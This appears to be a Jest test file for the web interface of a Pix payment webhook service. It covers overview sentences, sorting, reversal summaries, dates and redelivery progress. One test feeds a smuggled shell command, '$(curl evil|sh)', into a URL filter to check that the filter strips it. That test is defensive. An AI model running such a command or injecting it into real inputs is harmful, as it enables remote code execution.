import { jest } from '@jest/globals';
import type { OverviewWebhook } from '@webhooks/client';
import { dayBefore, lastDayOf } from '../src/web/days.js';
import { commandFor, filterOf } from '../src/web/delivery-filter.js';
import { speak } from '../src/web/language.js';
import { overviewSentence, worstFirst } from '../src/web/overview-sentences.js';
import { progressText } from '../src/web/redelivery-progress.js';
import { reversedCents, summaryText, urgentFirst } from '../src/web/verdict-summary.js';

const PT = speak('pt');
const EN = speak('en');

const WEBHOOK: OverviewWebhook = {
  ref: '6f1f3c1e-2a53-4c27-9d3d-0c6b5a1f2e90',
  eventType: 'PIX_STATIC',
  endpointUrl: 'https://loja.com.br/pix?key=secret',
  enabled: true,
  state: 'healthy',
  lastHour: { delivered: 3, failed: 0 },
};
const FAILING: OverviewWebhook = {
  ...WEBHOOK,
  state: 'failing',
  since: '2026-01-04T06:12:00.000Z',
  topFailure: { class: 'TLS', code: 'CERT_HAS_EXPIRED' },
  undelivered: { events: 412, amount: '38190.20', atLeast: true },
};

describe('the overview', () => {
  it.each([
    ['no webhook', [], /^No webhook is registered yet/],
    ['healthy ones', [WEBHOOK, WEBHOOK], /^All webhooks take what they are sent: 2 webhooks/],
    ['disabled ones', [{ ...WEBHOOK, state: 'disabled' }], /^loja\.com\.br\/pix is disabled/],
    [
      'a fault of the platform',
      [WEBHOOK, { ...WEBHOOK, state: 'deferred' }],
      /wait because of a fault of the platform/,
    ],
    [
      'a failing one',
      [WEBHOOK, FAILING],
      /^loja\.com\.br\/pix fails since .*certificate.* At least 412 payments are not delivered: R\$38,190\.20\.$/,
    ],
    [
      'failing ones',
      [FAILING, WEBHOOK, FAILING],
      /^2 webhooks fail, at least 824 notifications are not delivered: R\$76,380\.40\. loja\.com\.br\/pix fails since/,
    ],
  ] as const)('says in a sentence how webhooks do: %s', (_name, webhooks, says) => {
    expect(overviewSentence(webhooks as readonly OverviewWebhook[], EN)).toMatch(says);
  });

  it('says it in Portuguese, too, and one is one', () => {
    const one = { ...FAILING, undelivered: { events: 1, amount: '42.00', atLeast: false } };
    expect(overviewSentence([one], PT)).toMatch(/falha desde .*1 pagamento não foi entregue: R\$.42,00\.$/);
  });

  it('never shows the query of an address', () => {
    expect(overviewSentence([FAILING], EN)).not.toContain('secret');
  });

  it('lists the worst first; where most money is not delivered before what failed first', () => {
    const later = { ...FAILING, state: 'paused' as const, since: '2026-02-04T06:12:00.000Z' };
    const cheap = {
      ...FAILING,
      state: 'failing' as const,
      undelivered: { events: 500, amount: '9000.00', atLeast: false },
    };
    expect(worstFirst([WEBHOOK, cheap, later, FAILING])).toEqual([FAILING, later, cheap, WEBHOOK]);
  });
});

test('a payment says what was reversed, and counts its notifications, the most urgent first', () => {
  const texts = { pt: '', en: '' };
  const kinds = ['registered-later', 'delivered', 'paused', 'dead', 'test', 'delivered-late'] as const;
  const verdicts = urgentFirst(kinds.map((kind) => ({ kind, text: texts })));
  expect(verdicts.map(({ kind }) => kind)).toEqual([
    ...['test', 'dead', 'paused', 'delivered', 'delivered-late', 'registered-later'],
  ]);
  const reversal = { reversalId: 'D1', rtrId: 'D2', amount: '40.00', status: 'DEVOLVIDO' } as const;
  const refused = { ...reversal, status: 'NAO_REALIZADO' } as const;
  const payment = { endToEndId: 'E1', reversals: [reversal, refused, reversal], events: [] };
  expect(summaryText(verdicts, reversedCents(payment), EN)).toBe(
    'R$80.00 reversed. 1 given up or cancelled, 1 waits, 2 delivered, 1 not sent.',
  );
});

test.each([
  ['2026-03-01', '2026-02-28'],
  ['2026-01-01', '2025-12-31'],
])('the day before %s is %s', (day, before) => {
  expect(dayBefore(day)).toBe(before);
});

test.each([
  ['2026-02', '2026-02-28'],
  ['2026-11', '2026-11-12'],
])('the newest day of %s is %s', (month, day) => {
  expect(lastDayOf(month, '2026-11-12')).toBe(day);
});

test('a filter of the address has known names, and no value that a shell would read', () => {
  const filter = filterOf(new URLSearchParams('status=dead&ref=$(curl evil|sh)&tenant=acme&endToEndId=E1'));
  expect(filter).toEqual({ status: 'dead', endToEndId: 'E1' });
  expect(commandFor(filter)).toBe('webhooks deliveries list --status dead --end-to-end-id E1');
});

/** By the clock of a browser that is an hour ahead. */
const NOW = Date.parse('2026-11-28T13:00:00Z');
const JOB = {
  state: 'running',
  createdAt: '2026-11-28T11:59:50Z',
  updatedAt: '2026-11-28T12:00:00Z',
  matched: 40,
  matchedIsLowerBound: false,
  sent: 8,
  refused: 1,
  expired: 1,
} as const;

test.each([
  [0, 'agora'],
  [-90_000, 'há 1 minuto'],
  [-47 * 3_600_000, 'há 1 dia'],
  [25 * 3_600_000, 'em 1 dia'],
])('a time %d ms from now is said as %s', (ms, says) => {
  jest.useFakeTimers({ now: NOW });
  expect(PT.relative(new Date(NOW + ms).toISOString())).toBe(says);
  jest.useRealTimers();
});

test('a job says how far it is, what it did not send, and when it ends', () => {
  jest.useFakeTimers({ now: NOW });
  expect(progressText(JOB, PT)).toBe(
    '10 de 40. 2 não enviadas: o webhook está desativado, tem outro tipo ou não existe mais, ou a notificação não está mais guardada. Termina em 30 segundos.',
  );
  expect(progressText({ ...JOB, state: 'completed', sent: 40, refused: 0, expired: 0 }, EN)).toBe(
    '40 of 40.',
  );
  expect(progressText({ ...JOB, matchedIsLowerBound: true, refused: 0, expired: 0 }, EN)).toBe(
    '8 of at least 40.',
  );
  jest.useRealTimers();
});
